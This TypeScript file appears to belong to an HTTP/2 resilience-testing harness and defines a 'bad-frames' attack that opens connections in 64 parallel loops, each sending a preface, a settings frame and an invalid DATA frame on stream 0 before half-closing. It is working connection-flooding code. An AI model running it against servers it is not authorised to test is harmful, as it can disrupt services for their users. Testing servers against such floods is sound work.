import { together, type Attack } from '../attack.js';
import { openSocket } from '../peer.js';
import { frame, frameType, preface, settingsFrame } from '../wire.js';

/** DATA on stream 0 is an error of the connection. */
const bad = frame({ type: frameType.data, flags: 0, stream: 0 }, Buffer.alloc(8));

/** Connections that end in an error, each after 40 bytes. */
export const badFrames: Attack = {
  name: 'bad-frames',
  what: 'connections that send one bad frame and close, without end',
  by: 'stranger',
  enough: { what: 'connections', count: 4300 },
  run: (context) =>
    together(64, async () => {
      while (!context.signal.aborted) {
        const socket = await openSocket(context.target);
        if (socket === undefined) {
          context.count('refused');
          continue;
        }
        context.count('connections');
        await new Promise<void>((resolve) => {
          socket.once('close', () => resolve());
          // Ends its own half only; the agent has to end the other one.
          socket.end(Buffer.concat([preface, settingsFrame(), bad]));
          setTimeout(resolve, 5);
        });
      }
    }),
};
